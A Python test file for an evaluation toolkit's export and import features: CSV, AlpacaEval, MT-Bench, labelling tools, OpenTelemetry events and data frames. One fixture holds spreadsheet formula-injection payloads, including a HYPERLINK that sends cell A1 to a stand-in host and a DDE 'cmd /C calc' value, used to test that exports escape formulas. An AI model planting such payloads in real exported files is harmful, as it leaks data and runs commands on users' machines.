"""A run's judgments out and back in, as events, in spreadsheets and as data frames: nothing is lost or invented."""

import base64
import csv
import io
import json
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from google.protobuf.json_format import Parse
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.proto.logs.v1.logs_pb2 import LogsData

import evalkit
from evalkit.cli import main
from evalkit.core.errors import ConfigError
from evalkit.runs.records import as_csv, escaped, unescaped
from evalkit.runs.rows import column

PAIRS = [
    {"id": "1", "prompt": "Why?", "response_a": "b,\n\"q\"", "response_b": "no", "model_a": "m1", "model_b": "m2",
     "winner": winner, "order": order, "text": f"[[{text}]]", "label": "A", "judge": "j"}
    for winner, order, text in [("A", "ab", "A"), ("TIE", "ba", "C")]
] + [
    {"id": "2", "prompt": "How?", "response_a": "x", "response_b": "y", "model_a": "m1", "model_b": "m2",
     "winner": winner, "order": order, "text": "…", "label": "B", "judge": "j"}
    for winner, order in [("B", "ab"), ("-1", "ba")]
]  # fmt: skip
SCORES = [
    {
        "id": n,
        "prompt": "p",
        "response": f"r{n}",
        "model": "m",
        "score.style": 4,
        "score.truth": truth,
        "grade": 3,
        "judge": "j",
    }
    for n, truth in enumerate([5, None])
]


@pytest.fixture
def pairs(once):
    return once("pairs", PAIRS)


@pytest.fixture
def scores(once):
    return once("scores", SCORES)


def export(ran, name: str, *words: str) -> bytes:
    file = ran.folder.parent / f"out.{name}"
    assert main(["export", str(ran.folder), "--to", name, "--output", str(file), *words]) == 0
    return file.read_bytes()


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["pairs", "scores"])
@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_tables_come_back_the_same(request, bring, kind, suffix):
    ran = request.getfixturevalue(kind)
    before, cases = ran.values, ran.rows("cases.jsonl")
    export(ran, suffix)
    again = bring("generic", f"out.{suffix}")
    assert again.values == before
    kept = ("id", "prompt", "responses", "label")
    assert [{key: case[key] for key in kept} for case in again.rows("cases.jsonl")] == [
        {key: case[key] for key in kept} for case in cases
    ]


def test_a_row_has_verdict_and_label(pairs):
    rows = list(csv.DictReader(io.StringIO(export(pairs, "csv").decode())))
    assert [
        (row["winner"], row["verdict"], row["verdict_reason"], row["label"]) for row in rows
    ] == [
        ("A", "TIE", "swap_disagreement", "A"),
        ("TIE", "TIE", "swap_disagreement", "A"),
        ("B", "", "missing", "B"),
        ("", "", "missing", "B"),
    ]


def test_alpaca_eval_and_back(pairs, bring):
    main(["score", str(pairs.folder), "swap.resolve=mean", "scoring.bootstrap=0"])
    rows = json.loads(export(pairs, "alpaca_eval"))
    assert [(row["generator_1"], row["generator_2"], row["preference"]) for row in rows] == [
        ("m1", "m2", 1.25),
        ("m1", "m2", None),
    ]
    assert bring("alpaca_eval", "out.alpaca_eval", status=1)
    (pairs.folder.parent / "out.alpaca_eval").rename(pairs.folder.parent / "out.json")
    assert bring("alpaca_eval", "out.json").values == [
        ("1", [0, 1], 0.5),
        ("2", [0, 1], "unparseable"),
    ]


def test_the_baseline_is_alpaca_evals_first_output(bring, write):
    rows = [
        {
            "id": n,
            "prompt": n,
            "response_a": "x",
            "response_b": "y",
            "model_a": "mine",
            "model_b": "old",
            "winner": won,
        }
        for n, won in (("1", "A"), ("2", "A"), ("3", "B"))
    ]
    ran = bring(
        "generic", str(write("m.jsonl", [{**row, "metadata.baseline": "old"} for row in rows]))
    )
    exported = json.loads(export(ran, "alpaca_eval"))
    assert {(row["generator_1"], row["output_1"], row["generator_2"]) for row in exported} == {
        ("old", "y", "mine")
    }
    assert [row["preference"] for row in exported] == [2.0, 2.0, 1.0]
    again = bring("alpaca_eval", str(write("annotations.json", exported)))
    assert again.metrics["alpaca_eval/win_rate"]["value"] == pytest.approx(2 / 3)


def test_mt_bench_and_back(pairs, bring):
    before = pairs.values
    content = export(pairs, "mt_bench")
    (pairs.folder.parent / "out.jsonl").write_bytes(content)
    again = bring("mt_bench", "out.jsonl")
    assert again.values == before
    assert [one["text"] for one in again.rows("cases.jsonl")[0]["responses"]] == ['b,\n"q"', "no"]


def test_mt_bench_single(scores, bring):
    content = export(scores, "mt_bench")
    (scores.folder.parent / "out.jsonl").write_bytes(content)
    assert [value for _, _, value in bring("mt_bench", "out.jsonl").values] == [
        {"quality": 4.5},
        "unparseable",
    ]


@pytest.mark.parametrize("layout", ["argilla", "label_studio"])
def test_what_people_label_is_blind(pairs, layout):
    text = export(pairs, layout).decode()
    entries = json.loads(text)
    assert len(entries) == 2
    for hidden in ("m1", "m2", "winner", "[[A]]", '"j"', "TIE"):
        assert hidden not in text
    assert export(pairs, layout, "--seed", "0").decode() == text
    assert len(json.loads(export(pairs, layout, "--n", "1"))) == 1


def test_order_is_by_chance_and_seeded(bring, write):
    rows = [{**PAIRS[0], "id": str(n)} for n in range(40)]
    ran = bring("generic", str(write("many.jsonl", rows)))
    first = json.loads(export(ran, "label_studio"))
    other = json.loads(export(ran, "label_studio", "--seed", "7"))
    names = [one["data"]["case_id"] for one in first]
    assert sorted(names) == sorted(str(n) for n in range(40))
    assert names != [one["data"]["case_id"] for one in other] != sorted(names)
    swapped = [one["data"]["shown"] == "1,0" for one in first]
    assert 8 < sum(swapped) < 32
    assert all(
        (one["data"]["response_a"] == "no") == (one["data"]["shown"] == "1,0") for one in first
    )


@pytest.mark.parametrize(("words", "said"), [
    ((), "evalkit export: needs --to"),
    (("run",), "evalkit export: needs --to"),
    (("run", "--to", "exel"), "evalkit export: --to: no such choice 'exel'; choose from "),
    (("run", "--to", "csv", "--seed", "x"), "evalkit export: --seed: 'x' is not an integer"),
    (("run", "--tp", "csv"), "evalkit export: no such option --tp; did you mean '--to'?"),
    (("absent", "--to", "csv"), "no such folder"),
    (("run", "--to", "csv", "--output", "/proc/no/file"), "/proc/no/file: cannot be written"),
])  # fmt: skip
def test_mistakes_are_one_line(pairs, capsys, words, said):
    capsys.readouterr()
    assert main(["export", *words]) == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert said in line


def test_scores_have_no_preference(scores, capsys):
    assert main(["export", str(scores.folder), "--to", "alpaca_eval"]) == 1
    assert "has no pairs" in capsys.readouterr().err


TRACE, SPAN = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
CASES: list[dict[str, Any]] = [
    {"id": f"tr-{TRACE}", "prompt": "Name a prime.", "response": "7", "response_id": "chatcmpl-1",
     "span_id": SPAN},
    {"id": "2", "prompt": "Name a prime.", "response": "9", "trace_id": f"tr-{TRACE}"},
    {"id": "3", "prompt": "Name a prime.", "response": "11"},
]  # fmt: skip


def parsed(line: str) -> tuple[Any, list[tuple[Any, dict[str, Any]]]]:
    """Return the resource's attributes, and each event with its attributes."""
    # OTLP writes ids in hexadecimal; JSON of other messages has bytes in base 64.
    content = json.loads(line)
    for record in content["resourceLogs"][0]["scopeLogs"][0]["logRecords"]:
        for name in {"traceId", "spanId"} & record.keys():
            record[name] = base64.b64encode(bytes.fromhex(record[name])).decode()
    logs = Parse(json.dumps(content), LogsData()).resource_logs[0]

    def attributes(values: Any) -> dict[str, Any]:
        return {one.key: getattr(one.value, one.value.WhichOneof("value")) for one in values}

    events = [(record, attributes(record.attributes)) for record in logs.scope_logs[0].log_records]
    return attributes(logs.resource.attributes), events


def exported(
    folder: Path, *words: str, cases: list[dict[str, Any]] = CASES
) -> tuple[Any, Any, Any]:
    settings = ["judge=simulated/good", "tracking=none", "scoring.bootstrap=50", *words]
    result = evalkit.run(
        evalkit.load_config(overrides=settings), folder / "run", cases=cases, overwrite=True
    )
    assert (
        main(
            [
                "export",
                str(folder / "run"),
                "--to",
                "otel",
                "--output",
                str(folder / "events.jsonl"),
            ]
        )
        == 0
    )
    (line,) = (folder / "events.jsonl").read_text("utf-8").splitlines()
    return result, *parsed(line)


def test_scores_criteria_and_metrics_are_events(tmp_path):
    result, resource, events = exported(tmp_path, "mode=pointwise")
    assert resource["evalkit.config_hash"] == result.manifest["config_hash"]
    assert {record.event_name for record, _ in events} == {"gen_ai.evaluation.result"}
    assert all(record.time_unix_nano > 1.7e18 for record, _ in events)
    verdicts = [
        (record, one) for record, one in events if one["gen_ai.evaluation.name"] == "verdict"
    ]
    assert [one["gen_ai.evaluation.score.value"] for _, one in verdicts] == [
        one.score for one in result.verdicts
    ]
    ids = [
        (record.trace_id.hex(), record.span_id.hex(), one.get("gen_ai.response.id"))
        for record, one in verdicts
    ]
    assert ids == [(TRACE, SPAN, "chatcmpl-1"), (TRACE, "", None), ("", "", None)]
    assert all(one["gen_ai.evaluation.explanation"] for _, one in verdicts)
    first = [one for _, one in events if one.get("evalkit.case.id") == f"tr-{TRACE}"]
    values = {
        one["gen_ai.evaluation.name"]: one["gen_ai.evaluation.score.value"] for one in first[1:]
    }
    assert values == result.verdicts[0].criteria
    (mean,) = (one for _, one in events if one["gen_ai.evaluation.name"] == "score/mean")
    metric = result.metrics["score/mean"]
    ends = [mean[f"evalkit.{end}"] for end in ("low", "high", "n", "missing")]
    assert ends == [metric.low, metric.high, metric.n, metric.missing]


def test_a_missing_verdict_has_no_score(tmp_path):
    pairs = [
        {"id": one["id"], "prompt": one["prompt"], "response_a": "7", "response_b": "9"}
        for one in CASES
    ]
    result, _, events = exported(tmp_path, cases=pairs)
    verdicts = [one for _, one in events if one["gen_ai.evaluation.name"] == "verdict"]
    labels = [one["gen_ai.evaluation.score.label"] for one in verdicts]
    assert labels == [one.winner for one in result.verdicts]
    unknown = [{**one, "prompt": "Name another."} for one in pairs]
    _, _, events = exported(tmp_path, "store.mode=read_only", cases=unknown)
    missing = [one for _, one in events if one["gen_ai.evaluation.name"] == "verdict"]
    assert {one["error.type"] for one in missing} == {"missing"}
    assert not any(key.startswith("gen_ai.evaluation.score") for one in missing for key in one)


@pytest.mark.parametrize("layout", ["mlflow-assessments"])
def test_a_run_without_traces_has_none_to_assess(tmp_path, capsys, layout):
    exported(tmp_path, "mode=pointwise", cases=CASES[2:])
    assert main(["export", str(tmp_path / "run"), "--to", layout]) == 1
    assert "no case came from a trace" in capsys.readouterr().err


FORMULA = '=HYPERLINK("http://x.test?"&A1,"open")'
ROWS = [
    {
        "id": "=1+1",
        "prompt": FORMULA,
        "response_a": "+cmd|' /C calc'!A0",
        "response_b": "@SUM(1)",
        "winner": "A",
        "order": order,
        "text": "\t=x",
        "judge": "-j",
        "label": "A",
    }
    for order in ("ab", "ba")
]


@pytest.fixture
def run(here):
    Path("judged.jsonl").write_text("".join(json.dumps(row) + "\n" for row in ROWS), "utf-8")
    words = [
        *("import", "generic", "judged.jsonl", "tracking=none", "scoring.bootstrap=20"),
        "hydra.run.dir=run",
    ]
    assert main(words) == 0
    return here / "run"


def cells(file: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))


def test_an_export_has_no_formulas_and_comes_back(run, capsys):
    assert main(["export", str(run), "--to", "csv", "--output", "out.csv"]) == 0
    found = cells(Path("out.csv"))
    texts = [cell for row in found for cell in row if cell and cell[0] in "=+-@\t\r\n"]
    assert [cell for cell in texts if not cell.lstrip("-").replace(".", "").isdigit()] == []
    assert "'" + FORMULA in found[1]
    words = [
        *("import", "generic", "out.csv", "tracking=none", "scoring.bootstrap=20"),
        "hydra.run.dir=again",
    ]
    assert main(words) == 0
    before, after = (
        json.loads((folder / "cases.jsonl").read_text("utf-8")) for folder in (run, Path("again"))
    )
    for case in (before, after):
        case["responses"] = [response["text"] for response in case["responses"]]
    assert before == after
    assert (
        json.loads(Path("again/metrics.json").read_text())["metrics"]
        == json.loads((run / "metrics.json").read_text())["metrics"]
    )


def test_raw_keeps_texts(run, capsys):
    assert main(["export", str(run), "--to", "csv", "--raw", "--output", "out.csv"]) == 0
    assert FORMULA in cells(Path("out.csv"))[1]
    assert main(["export", str(run), "--to", "parquet", "--raw"]) == 1
    assert "--raw: is only for csv" in capsys.readouterr().err


def test_labels_of_an_escaped_id_are_read(run):
    Path("labels.csv").write_text(
        as_csv(["id", "annotator", "label"], [{"id": "=1+1", "annotator": "@ann", "label": "B"}])
    )
    assert "'=1+1" in Path("labels.csv").read_text("utf-8")
    assert main(["label", "run", "labels.csv"]) == 0
    (case,) = [json.loads(line) for line in (run / "cases.jsonl").read_text("utf-8").splitlines()]
    assert case["labels"] == {"@ann": "B"}


def test_a_comparison_has_no_formulas(run):
    words = [
        *("import", "generic", "judged.jsonl", "tracking=none", "--judge", "=2+2"),
        "hydra.run.dir=other",
    ]
    Path("judged.jsonl").write_text(
        "".join(json.dumps({k: v for k, v in row.items() if k != "judge"}) + "\n" for row in ROWS),
        "utf-8",
    )
    assert main(words) == 0
    assert main(["compare", "run", "other"]) == 0
    names = {cell for row in cells(Path("comparison.csv")) for cell in row if "2+2" in cell}
    assert names == {"'=2+2"}


@given(
    st.text(alphabet="'=+-@\t\r\n＝a1.e", max_size=8)
    | st.floats(allow_nan=False)
    | st.integers()
    | st.none()
)
def test_escaping_can_be_undone(value):
    shown = escaped(value)
    assert unescaped(shown) == value
    if not isinstance(value, str):
        assert shown == value
    elif shown[:1] in tuple("=+-@\t\r\n＝"):
        float(shown)  # numbers alone stay as they are


PAIR = {
    "prompt": "Q?",
    "response_a": "yes",
    "response_b": "no",
    "model_a": "m",
    "label": "A",
    "kind": 1,
}
LIST = {
    "prompt": "Q?",
    "responses": [{"text": "a", "model": "m"}, {"text": "b"}, {"text": "c \ud800"}],
}
GRADED = {
    "prompt": "Q?",
    "response": "yes",
    "label": 4,
    "labels": {"ann": 4, "bob": 3},
    "tags": ["x", 1],
}
RUNS = {
    "pairs": ([], [{**PAIR, "id": "1"}, {**PAIR, "id": "2", "label": None, "kind": "two"}]),
    "lists": (["mode=listwise"], [{**LIST, "id": "1"}]),
    "scores": (
        ["mode=pointwise"],
        [{**GRADED, "id": "1"}, {"id": "2", "prompt": "?", "response": "no"}],
    ),
}


@pytest.fixture(scope="module")
def frame_runs(tmp_path_factory):
    words = ["judge=simulated/good", "tracking=none", "scoring.bootstrap=0", "store.mode=off"]
    return {
        name: evalkit.run(
            evalkit.load_config(overrides=[*words, *mode]),
            tmp_path_factory.mktemp("frame_runs") / name,
            cases=cases,
        )
        for name, (mode, cases) in RUNS.items()
    }


@pytest.mark.parametrize("name", RUNS)
def test_cases_can_be_judged_again(frame_runs, name, tmp_path):
    run = frame_runs[name]
    for frame in (run.to_pandas("cases"), run.to_polars("cases")):
        again = evalkit.run(run.config, tmp_path / type(frame).__module__, cases=frame)
        kept = [replace(case, metadata={}) for case in again.cases]
        known = [replace(case, metadata={}) for case in run.cases]
        if name == "lists":  # an unpaired surrogate cannot be in a frame
            assert [len(case.responses) for case in kept] == [3]
        else:
            assert kept == known


@pytest.mark.parametrize("table", ["cases", "judgments", "verdicts", "metrics"])
def test_both_libraries_have_the_same_table(frame_runs, table):
    for run in frame_runs.values():
        pandas, polars = run.to_pandas(table), run.to_polars(table)
        assert list(pandas.columns) == polars.columns
        rows = [
            {name: None if value != value else value for name, value in row.items()}
            for row in polars.to_dicts()
        ]
        assert pandas.astype(object).where(pandas.notna(), None).to_dict("records") == rows
        assert len(pandas) == len(getattr(run, table))


def test_a_missing_verdict_has_no_value(frame_runs):
    run = frame_runs["scores"]
    first, *rest = run.verdicts
    frame = replace(run, verdicts=(replace(first, score=None, reason="missing"), *rest)).to_polars()
    assert frame["score"].to_list() == [None, *(one.score for one in rest)]
    assert frame["reason"][0] == "missing"
    metrics = run.to_pandas("metrics").set_index("metric")
    assert {name for name, one in run.metrics.items() if one.value is None} == set(
        metrics[metrics.value.isna()].index
    )


@pytest.mark.parametrize(("values", "same"), [
    ([1, None, 2], [1, None, 2]),
    ([1, 2.5], [1.0, 2.5]),
    ([True, None], [True, None]),
    ([True, 1], ["True", "1"]),
    ([2**70, 1], [str(2**70), "1"]),
    (["a", 1], ["a", "1"]),
    ([None], [None]),
])  # fmt: skip
def test_a_column_has_one_type(values, same):
    assert [(type(one), one) for one in column(values)] == [(type(one), one) for one in same]


def test_mistakes_in_frames_are_one_line(frame_runs, monkeypatch):
    with pytest.raises(ConfigError, match="no table 'verdict'; did you mean 'verdicts'"):
        frame_runs["pairs"].to_pandas("verdict")
    monkeypatch.setitem(sys.modules, "polars", None)
    with pytest.raises(ConfigError, match="pip install polars"):
        frame_runs["pairs"].to_polars()
